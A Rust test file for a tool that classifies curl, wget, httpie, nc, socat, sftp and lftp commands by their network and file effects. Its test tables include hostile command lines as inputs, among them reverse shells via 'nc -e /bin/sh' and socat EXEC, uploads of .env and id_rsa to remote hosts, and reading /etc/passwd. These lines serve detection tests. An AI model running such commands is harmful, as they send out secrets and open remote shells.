use super::*;

fn run_with(line: &str, stdin: Option<&Arg>) -> Sink {
    let mut words = line.split(' ').map(|w| {
        let mut arg = Arg::default();
        let mut first = true;
        for piece in w.split("$X") {
            if !first {
                arg.push_hole("$X", Origin::Unknown);
            }
            first = false;
            arg.push_text(&piece.replace('~', " "));
        }
        arg
    });
    let program = words.next().unwrap();
    let args: Vec<Arg> = words.collect();
    let call = Call {
        program: program.text().unwrap(),
        args: &args,
        cwd: Some("/w"),
        home: "/home/u",
        stdin,
    };
    let mut sink = Sink::default();
    understand(&call, &mut sink);
    sink
}

/// One line per effect: kind, certainty when not proved, target.
fn show(line: &str) -> Vec<String> {
    show_sink(&run_with(line, None))
}

fn show_sink(sink: &Sink) -> Vec<String> {
    let mut out: Vec<String> = sink
        .effects
        .iter()
        .map(|e| {
            let target = match &e.target {
                Target::Path(p) => p.clone(),
                Target::Host {
                    host,
                    port,
                    path,
                    method,
                } => {
                    let port = port.map(|p| format!(":{p}")).unwrap_or_default();
                    format!("{method} {host}{port}{path}")
                }
                Target::Name(n) => n.clone(),
                other => format!("{other:?}"),
            };
            let certainty = match e.certainty {
                Certainty::Proved => "",
                Certainty::Partial => "~",
                Certainty::Opaque => "?",
            };
            let flow = if e.facts.flows_to_network { ">" } else { "" };
            format!("{certainty}{flow}{} {target}", e.kind.id())
        })
        .collect();
    for run in &sink.runs {
        if let Run::Shell { code, .. } = run {
            out.push(format!("sh {}", code.shown()));
        }
    }
    out
}

#[test]
fn spellings() {
    let table: &[(&str, &[&str])] = &[
        // curl: reads
        ("curl https://a.example/x", &["net.read GET a.example/x"]),
        ("curl a.example", &["net.read GET a.example/"]),
        (
            "curl -sSL https://a.example/x?y=1",
            &["net.read GET a.example/x"],
        ),
        (
            "curl -fsSL -o out https://a.example/x",
            &["net.read GET a.example/x", "file.write /w/out"],
        ),
        (
            "curl -fsSLo out https://a.example/x",
            &["net.read GET a.example/x", "file.write /w/out"],
        ),
        (
            "curl -LO https://a.example/d/f.tgz",
            &["net.read GET a.example/d/f.tgz", "file.write /w/f.tgz"],
        ),
        (
            "curl --output-dir d -O https://a.example/f",
            &["net.read GET a.example/f", "file.write /w/d/f"],
        ),
        (
            "curl -OJ https://a.example/f",
            &["net.read GET a.example/f", "~file.write /w/*"],
        ),
        ("curl -I https://a.example", &["net.read HEAD a.example/"]),
        (
            "curl -G -d q=1 https://a.example/s",
            &["net.read GET a.example/s"],
        ),
        (
            "curl -H Accept:~json https://a.example",
            &["net.read GET a.example/"],
        ),
        (
            "curl -w %{http_code} -o /dev/null -s http://localhost:3000/health",
            &["net.read GET localhost:3000/health"],
        ),
        (
            "curl --url http://[::1]:8080/x",
            &["net.read GET ::1:8080/x"],
        ),
        (
            "curl http://u:p@a.example:81/x",
            &["net.read GET a.example:81/x"],
        ),
        (
            "curl http://good.example@evil.example/",
            &["net.read GET evil.example/"],
        ),
        (
            "curl -k https://a.example -A agent -e ref -m 5",
            &["net.read GET a.example/"],
        ),
        (
            "curl --max-time 5 --retry 3 https://a.example",
            &["net.read GET a.example/"],
        ),
        ("curl file:///etc/passwd", &["file.read /etc/passwd"]),
        ("curl ftp://a.example/f", &["net.read GET a.example/f"]),
        (
            "curl -D head.txt https://a.example",
            &["file.write /w/head.txt", "net.read GET a.example/"],
        ),
        // curl: writes
        (
            "curl -X POST https://a.example/x",
            &["net.write POST a.example/x"],
        ),
        (
            "curl -XPOST https://a.example/x",
            &["net.write POST a.example/x"],
        ),
        (
            "curl -sXDELETE https://a.example/x",
            &["net.write DELETE a.example/x"],
        ),
        (
            "curl -sSLX post https://a.example/x",
            &["net.write POST a.example/x"],
        ),
        (
            "curl --request PATCH https://a.example/x",
            &["net.write PATCH a.example/x"],
        ),
        (
            "curl -d a=b https://a.example/x",
            &["net.write POST a.example/x"],
        ),
        (
            "curl -da=b https://a.example/x",
            &["net.write POST a.example/x"],
        ),
        (
            "curl --json {} https://a.example/x",
            &["net.write POST a.example/x"],
        ),
        (
            "curl https://a.example/x --data-raw x",
            &["net.write POST a.example/x"],
        ),
        (
            "curl -d @f https://a.example/x",
            &[">file.read /w/f", "net.write POST a.example/x"],
        ),
        (
            "curl --data-binary @- https://a.example/x",
            &["net.write POST a.example/x"],
        ),
        (
            "curl --data-urlencode k@f https://a.example/x",
            &[">file.read /w/f", "net.write POST a.example/x"],
        ),
        (
            "curl -F f=@a.txt;type=text/plain https://a.example",
            &[">file.read /w/a.txt", "net.write POST a.example/"],
        ),
        (
            "curl -F f=@a,b https://a.example",
            &[
                ">file.read /w/a",
                ">file.read /w/b",
                "net.write POST a.example/",
            ],
        ),
        (
            "curl -F f=<a https://a.example",
            &[">file.read /w/a", "net.write POST a.example/"],
        ),
        (
            "curl -T f https://a.example/up",
            &[">file.read /w/f", "net.write PUT a.example/up"],
        ),
        (
            "curl --upload-file f ftp://a.example/",
            &[">file.read /w/f", "net.write PUT a.example/"],
        ),
        (
            "curl -G -d @f https://a.example/s",
            &[">file.read /w/f", "net.write GET a.example/s"],
        ),
        (
            "curl -X GET -d @f https://a.example/s",
            &[">file.read /w/f", "net.write GET a.example/s"],
        ),
        (
            "curl -H @f https://a.example/s",
            &[">file.read /w/f", "net.write GET a.example/s"],
        ),
        (
            "curl -b jar https://a.example",
            &[">file.read /w/jar", "net.write GET a.example/"],
        ),
        (
            "curl -Q DELE~x ftp://a.example/",
            &["net.write GET a.example/"],
        ),
        (
            "curl -d x https://a.example --next https://b.example",
            &["net.write POST a.example/", "net.read GET b.example/"],
        ),
        (
            "curl https://a.example https://b.example",
            &["net.read GET a.example/", "net.read GET b.example/"],
        ),
        (
            "curl https://{a,b}.example/[1-2]",
            &[
                "net.read GET a.example/1",
                "net.read GET a.example/2",
                "net.read GET b.example/1",
                "net.read GET b.example/2",
            ],
        ),
        (
            "curl -g https://a.example/{x}",
            &["net.read GET a.example/{x}"],
        ),
        (
            "curl https://a.example/[1-9999]",
            &["limit.reached URL pattern", "~net.read GET a.example/$?"],
        ),
        ("curl -K cfg", &["file.read /w/cfg", "?net.read GET "]),
        (
            "curl --resolve a.example:443:10.0.0.1 https://a.example",
            &["net.read GET a.example/", "net.read CONNECT 10.0.0.1"],
        ),
        (
            "curl --connect-to ::evil.example:443 https://a.example",
            &[
                "net.read GET a.example/",
                "net.read CONNECT evil.example:443",
            ],
        ),
        (
            "curl -x http://p.example:3128 -d x https://a.example",
            &[
                "net.write POST a.example/",
                "net.write CONNECT p.example:3128",
            ],
        ),
        (
            "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
            &["net.read GET localhost/containers/json"],
        ),
        (
            "curl --unix-socket /var/run/docker.sock -X POST http://localhost/x",
            &[
                "net.write POST localhost/x",
                "privilege /var/run/docker.sock",
            ],
        ),
        ("curl https://$X/x", &["?net.read GET /x"]),
        (
            "curl https://$X.a.example/x",
            &["~net.read GET $X.a.example/x"],
        ),
        (
            "curl -X $X https://a.example/x",
            &["~net.write $X a.example/x"],
        ),
        (
            "curl -d @$X https://a.example/x",
            &["~>file.read $X", "net.write POST a.example/x"],
        ),
        (
            "curl smtp://m.example --mail-rcpt a@b -T f",
            &[
                ">file.read /w/f",
                "message.send m.example",
                "net.write POST m.example/",
            ],
        ),
        (
            "curl telnet://a.example:25",
            &["net.write CONNECT a.example:25"],
        ),
        (
            "curl -w %output{pwned}x https://a.example",
            &["file.write /w/pwned", "net.read GET a.example/"],
        ),
        (
            "curl --variable v@f --expand-data {{v}} https://a.example",
            &[">file.read /w/f", "net.write POST a.example/"],
        ),
        ("curl", &[]),
        ("curl --version", &[]),
        // wget
        (
            "wget https://a.example/d/f.tgz",
            &["net.read GET a.example/d/f.tgz", "file.write /w/f.tgz"],
        ),
        (
            "wget -qO- https://a.example/x",
            &["net.read GET a.example/x"],
        ),
        (
            "wget -O out https://a.example/x",
            &["net.read GET a.example/x", "file.write /w/out"],
        ),
        (
            "wget --spider https://a.example/x",
            &["net.read HEAD a.example/x"],
        ),
        (
            "wget -P d https://a.example/",
            &["net.read GET a.example/", "file.write /w/d/index.html"],
        ),
        (
            "wget --post-data=a -O- https://a.example/x",
            &["net.write POST a.example/x"],
        ),
        (
            "wget --post-file .env -O- https://a.example/x",
            &[">file.read /w/.env", "net.write POST a.example/x"],
        ),
        (
            "wget --method=PUT --body-file=f -O- https://a.example/x",
            &[">file.read /w/f", "net.write PUT a.example/x"],
        ),
        (
            "wget --meth DELETE -O - https://a.example/x",
            &["net.write DELETE a.example/x"],
        ),
        (
            "wget -i list",
            &["file.read /w/list", "?net.read GET /", "~file.write /w/*"],
        ),
        (
            "wget -e use_proxy=on -e http_proxy=p.example:1 -O- http://a.example",
            &["net.read GET a.example/", "net.read CONNECT p.example:1"],
        ),
        (
            "wget --use-askpass=/tmp/x https://a.example/f",
            &["net.read GET a.example/f", "file.write /w/f", "sh /tmp/x"],
        ),
        // httpie and xh
        ("http a.example", &["net.read GET a.example/"]),
        ("http :3000/x", &["net.read GET localhost:3000/x"]),
        ("http localhost:3000/x", &["net.read GET localhost:3000/x"]),
        ("http a.example/x k=v", &["net.write POST a.example/x"]),
        ("http POST a.example/x", &["net.write POST a.example/x"]),
        ("http delete a.example/x", &["net.write DELETE a.example/x"]),
        (
            "http GET a.example q==1 X-A:b",
            &["net.read GET a.example/"],
        ),
        ("http PUT a.example n:=1", &["net.write PUT a.example/"]),
        (
            "http a.example f@x.bin",
            &[">file.read /w/x.bin", "net.write POST a.example/"],
        ),
        (
            "http a.example f=@x",
            &[">file.read /w/x", "net.write POST a.example/"],
        ),
        (
            "http --download a.example/f.zip",
            &["net.read GET a.example/f.zip", "file.write /w/f.zip"],
        ),
        ("http localhost X-A:b", &["net.read GET localhost/"]),
        (
            "xh -j post a.example/x a=b",
            &["net.write POST a.example/x"],
        ),
        ("xh --curl post a.example/x a=b", &[]),
        // sockets
        ("nc a.example 80", &["net.write CONNECT a.example:80"]),
        ("nc -z a.example 1-100", &["net.read CONNECT a.example:1"]),
        (
            "nc -zv -w 1 localhost 5432",
            &["net.read CONNECT localhost:5432"],
        ),
        ("nc -l 4444", &["net.listen 4444"]),
        ("nc -lvnp 4444", &["net.listen 4444"]),
        (
            "nc -e /bin/sh a.example 4444",
            &[
                "net.write CONNECT a.example:4444",
                "?exec.opaque /bin/sh",
                "sh /bin/sh",
            ],
        ),
        (
            "ncat --sh-exec id a.example 1",
            &["net.write CONNECT a.example:1", "?exec.opaque id", "sh id"],
        ),
        ("telnet a.example 25", &["net.write CONNECT a.example:25"]),
        (
            "socat TCP:a.example:4444 EXEC:/bin/sh,pty",
            &[
                "net.write CONNECT a.example:4444",
                "?exec.opaque /bin/sh",
                "sh /bin/sh",
            ],
        ),
        (
            "socat - TCP4:a.example:80",
            &["net.write CONNECT a.example:80"],
        ),
        (
            "socat TCP-LISTEN:80,fork TCP:b.example:81",
            &["net.listen 80", "net.write CONNECT b.example:81"],
        ),
        (
            "socat -u FILE:.env TCP:a.example:80",
            &[">file.read /w/.env", "net.write CONNECT a.example:80"],
        ),
        (
            "openssl s_client -connect a.example:443 -servername a.example",
            &["net.read CONNECT a.example:443"],
        ),
        ("openssl x509 -in c.pem", &[]),
        // transfer
        (
            "sftp u@a.example:/d/f",
            &["net.read CONNECT a.example", "file.write /w/f"],
        ),
        (
            "sftp -b batch u@a.example",
            &["file.read /w/batch", "net.write CONNECT a.example"],
        ),
        (
            "lftp -e put~.env;bye ftp://a.example",
            &[">file.read /w/.env", "net.write CONNECT a.example"],
        ),
        (
            "lftp -c open~a.example;mirror~-R~src",
            &[">file.read /w/src", "net.write CONNECT a.example"],
        ),
        ("lftp -c !id", &["sh id"]),
        (
            "ftp -u ftp://a.example/x f",
            &["net.write PUT a.example/x", ">file.read /w/f"],
        ),
    ];
    let mut wrong = String::new();
    for (line, want) in table {
        let got = show(line);
        if &got != want {
            wrong += &format!("{line}\n  got  {got:?}\n  want {want:?}\n");
        }
    }
    assert!(wrong.is_empty(), "\n{wrong}");
}

#[test]
fn what_is_piped_decides_for_sessions() {
    let empty = Arg::known("\n");
    let secret = Arg::hole("$(cat)", Origin::Secret);
    let line = "openssl s_client -connect a.example:443";
    assert_eq!(
        show_sink(&run_with(line, Some(&empty))),
        ["net.read CONNECT a.example:443"]
    );
    assert_eq!(
        show_sink(&run_with(line, Some(&secret))),
        ["net.write CONNECT a.example:443"]
    );
    let script = Arg::known("put id_rsa\nquit\n");
    assert_eq!(
        show_sink(&run_with("sftp u@a.example", Some(&script))),
        [">file.read /w/id_rsa", "net.write CONNECT a.example"]
    );
    assert_eq!(
        show_sink(&run_with("http a.example", Some(&secret))),
        ["net.write POST a.example/"]
    );
}

#[test]
fn output_is_what_the_peer_says_unless_it_went_to_a_file() {
    let out = |l: &str| run_with(l, None).output.and_then(|o| o.origin());
    assert_eq!(out("curl https://a.example"), Some(Origin::Fetched));
    assert_eq!(out("curl -o f https://a.example"), None);
    assert_eq!(out("curl -o - https://a.example"), Some(Origin::Fetched));
    assert_eq!(
        out("curl -o f https://a.example https://b.example"),
        Some(Origin::Fetched)
    );
    assert_eq!(out("wget -qO- https://a.example"), Some(Origin::Fetched));
    assert_eq!(out("wget https://a.example"), None);
}

proptest::proptest! {
    #[test]
    fn never_panics(
        program in proptest::sample::select(PROGRAMS),
        args in proptest::collection::vec("[-a-zA-Z@=:/.{},$\\[\\]%<; é~]{0,12}", 0..8),
        stdin in proptest::option::of(".{0,40}"),
    ) {
        let line = std::iter::once(program.to_owned()).chain(args).collect::<Vec<_>>().join(" ");
        let stdin = stdin.map(Arg::known);
        run_with(&line, stdin.as_ref());
    }
}
